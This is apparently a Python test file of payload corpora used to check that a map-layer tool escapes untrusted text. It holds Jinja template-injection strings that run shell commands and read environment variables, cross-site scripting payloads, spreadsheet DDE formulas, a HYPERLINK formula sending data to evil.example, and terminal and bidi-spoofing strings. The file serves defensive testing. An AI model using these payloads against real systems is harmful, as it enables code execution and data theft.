"""Payload corpora for the security tests: text an attacker can put into a layer file.

Every corpus is a list of ``(label, text)`` pairs; :data:`ALL` joins them. The
tests apply every payload to every path by which text enters an output (feature
names, property values and keys, ids, file names, layer names, base map key and
tile folder) and assert that nothing runs and the literal text is what is shown.
Add a payload here and every test picks it up.
"""

from __future__ import annotations

#: Relative names the file-system payloads try to create (tests run in a temporary folder).
PWNED_DIR = "sec-pwned-dir"
PWNED_FILE = "sec-pwned-file"

TEMPLATE = [
    ("jinja-expr", "{{ 7*7 }}"),
    ("jinja-expr-str", "{{ 7*'7' }}"),
    ("jinja-comment", "Plot {#3 north}"),
    ("jinja-comment-close", "north #}"),
    ("jinja-raw", "{% raw %}"),
    ("jinja-endraw", "{% endraw %}"),
    ("jinja-for", "{% for x in range(3) %}x{% endfor %}"),
    ("jinja-endmacro", "{%- endmacro %}"),
    ("jinja-popen", "{{ lipsum.__globals__.os.popen('id').read() }}"),
    ("jinja-popen-touch", f"{{{{ lipsum.__globals__.os.popen('touch {PWNED_FILE}').read() }}}}"),
    ("jinja-mkdir", f"{{{{ cycler.__init__.__globals__.os.mkdir('{PWNED_DIR}') }}}}"),
    ("jinja-environ", "{{ lipsum.__globals__.os.environ }}"),
    ("jinja-this", "{{ this.get_name() }}"),
    ("jinja-kwargs", "{{ kwargs }}"),
    ("dollar-brace", "${{7*7}}"),
]
HTML = [
    ("img-onerror", "<img src=x onerror=alert(1)>"),
    ("script", "<script>alert(2)</script>"),
    ("close-script", "</script><script>window.__pwned=1</script>"),
    ("svg-onload", '"><svg onload=alert(3)>'),
    ("comment-open", "<!-- open"),
    ("iframe-js", "<iframe src=javascript:alert(4)></iframe>"),
    ("entity", "&lt;b&gt; &amp;"),
    ("attribute-break", "' onmouseover='window.__pwned=2"),
]
JS = [
    ("template-string", "`${alert(5)}`"),
    ("quote-break", "'); window.__pwned=3; ('"),
    ("double-quote-break", '"+(window.__pwned=4)+"'),
    ("unicode-escape", "\\u003cscript\\u003ealert(6)\\u003c/script\\u003e"),
    ("backslash", "C:\\temp\\x.geojson \\"),
]
FORMULA = [
    ("hyperlink", '=HYPERLINK("http://evil.example/?d="&A2,"click")'),
    ("dde-plus", "+cmd|' /C calc'!A0"),
    ("dde-minus", "-2+3+cmd|' /C calc'!A0"),
    ("at-sum", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("tab-formula", "\t=1+2"),
    ("cr-formula", "\r=1+3"),
]
CONTROL = [
    ("cr-ansi", "zone-1\r\x1b[32mno problems, all features valid\x1b[0m"),
    ("osc-title", "\x1b]0;pwned\x07title"),
    ("erase-line", "x\x1b[2K\x1b[1G"),
    ("nul", "a\x00b"),
    ("del-c1", "a\x7f\x9bb"),
    ("newline", "first\nsecond"),
]
UNICODE = [
    ("line-separator", "line\u2028separator"),
    ("paragraph-separator", "paragraph\u2029separator"),
    ("bidi-override", "\u202egnp.exe"),
    ("bidi-isolate", "a\u2066b\u2069c"),
    ("bom", "\ufeffbom"),
    ("cjk", "璧山区 {{ 区 }}"),
]

ALL = TEMPLATE + HTML + JS + FORMULA + CONTROL + UNICODE
#: Payloads a browser shows exactly as typed (its HTML parser turns CR into LF and NUL
#: into U+FFFD, so those are checked only for running nothing).
BROWSER_LITERAL = [
    (label, text)
    for label, text in ALL
    if not any(ch in text for ch in "\r\x00\n") and not text.startswith("\t")
]
#: Payloads usable in a file name on Linux (no "/" and no NUL; GDAL reads them back).
FILE_NAME = [(label, text) for label, text in ALL if "/" not in text and "\x00" not in text]
#: Characters that make a spreadsheet read a cell as a formula (OWASP).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def ids(corpus: list[tuple[str, str]]) -> list[str]:
    """Test ids for a parametrized corpus: the payloads' labels."""
    return [label for label, _ in corpus]
